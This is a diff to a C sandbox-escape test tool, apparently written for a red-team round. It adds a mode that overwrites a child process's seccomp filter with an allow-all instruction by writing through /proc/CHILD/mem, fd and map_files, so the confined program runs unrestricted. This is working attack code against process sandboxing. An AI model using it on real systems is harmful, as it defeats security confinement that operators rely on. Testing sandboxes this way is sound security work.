@@ -9,7 +9,15 @@
  * /proc/CHILD/mem before the kernel copies it: PROG (escape_answer rwx)
  * then runs under a filter that allows everything.  Unpinned (no tracer)
  * PROG just runs.  Stopped: PROG killed every time (exit 1).
+ *
+ * escape_swap -s TRIES PROG ARG... (filter-sealed, blind round 6: io_uring
+ * workers wrote the filter while every thread of the tree was stopped):
+ * the same, writing where the filter really is, from a parent that is
+ * not stopped: the memfd mapping the child's maps show, through
+ * /proc/CHILD/mem, through the child's descriptor of it while it is open
+ * (/proc/CHILD/fd/N) and through /proc/CHILD/map_files (root).
  */
+#include <dirent.h>
 #include <fcntl.h>
 #include <signal.h>
 #include <stdbool.h>
@@ -67,6 +75,89 @@ in_call(pid_t c, int *st, int sfd, unsigned long v[7])
 	return strtol(b, NULL, 10);
 }
 
+/* One write of `allow` over the first instruction (16 bytes into the
+ * memfd: its sock_fprog first) through path at off: 1 when it landed. */
+static int
+write_at(const char *path, off_t off)
+{
+	struct insn allow = { 0x06, 0, 0, 0x7fff0000 };
+	int fd = open(path, O_RDWR | O_CLOEXEC), n = 0;
+
+	if (fd == -1)
+		return 0;
+	n = pwrite(fd, &allow, sizeof(allow), off) == sizeof(allow);
+	close(fd);
+	return n;
+}
+
+/* Every way at the child's filter memfd once; how many writes landed. */
+static int
+hammer_sealed(pid_t c)
+{
+	char path[320], link[256], line[512];
+	unsigned long lo, hi;
+	struct dirent *e;
+	int hits = 0;
+	FILE *f;
+	DIR *d;
+
+	snprintf(path, sizeof(path), "/proc/%d/fd", (int)c);
+	if ((d = opendir(path)) != NULL) {
+		while ((e = readdir(d)) != NULL) {
+			ssize_t n;
+			snprintf(path, sizeof(path), "/proc/%d/fd/%s", (int)c,
+			    e->d_name);
+			if ((n = readlink(path, link, sizeof(link) - 1)) > 0 &&
+			    (link[n] = '\0', strstr(link, "memfd:syspin")))
+				hits += write_at(path, 16);
+		}
+		closedir(d);
+	}
+	snprintf(path, sizeof(path), "/proc/%d/maps", (int)c);
+	if ((f = fopen(path, "re")) == NULL)
+		return hits;
+	while (fgets(line, sizeof(line), f) != NULL) {
+		if (strstr(line, "memfd:syspin") == NULL ||
+		    sscanf(line, "%lx-%lx", &lo, &hi) != 2)
+			continue;
+		snprintf(path, sizeof(path), "/proc/%d/mem", (int)c);
+		hits += write_at(path, (off_t)(lo + 16));
+		snprintf(path, sizeof(path), "/proc/%d/map_files/%lx-%lx",
+		    (int)c, lo, hi);
+		hits += write_at(path, 16);
+	}
+	fclose(f);
+	return hits;
+}
+
+static int
+sealed(int tries, char **argv)
+{
+	unsigned long v[7];
+	int sfd, st = 0, hits;
+	pid_t c;
+
+	for (int k = 0; k < tries; k++) {
+		if ((c = spawn(argv, &sfd)) == -1)
+			return 1;
+		hits = 0;
+		for (long i = 0; i < 200000; i++) {
+			hits += hammer_sealed(c);
+			if (in_call(c, &st, sfd, v) == GONE)
+				break;
+		}
+		if (waitpid(c, &st, WNOHANG) == 0) {
+			kill(c, SIGKILL);
+			waitpid(c, &st, 0);
+		}
+		close(sfd);
+		printf("try %d: %d writes landed, status 0x%x\n", k, hits, st);
+		if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
+			return 0;
+	}
+	return 1;
+}
+
 int
 main(int argc, char **argv)
 {
@@ -77,6 +168,10 @@ main(int argc, char **argv)
 	long nr = 0;
 	pid_t c;
 
+	bool seal = argc > 1 && strcmp(argv[1], "-s") == 0;
+
+	argv += seal;
+	argc -= seal;
 	if (argc < 3)
 		return 2;
 	tries = atoi(argv[1]);
@@ -84,6 +179,8 @@ main(int argc, char **argv)
 		execv(argv[2], argv + 2);
 		return 127;
 	}
+	if (seal)
+		return sealed(tries, argv + 2);
 	/* where the filter lies: the seccomp call's program below the sp
 	 * of the calls before it (mmap, mseal) */
 	for (int cal = 0; cal < 10 && off == 0; cal++) {
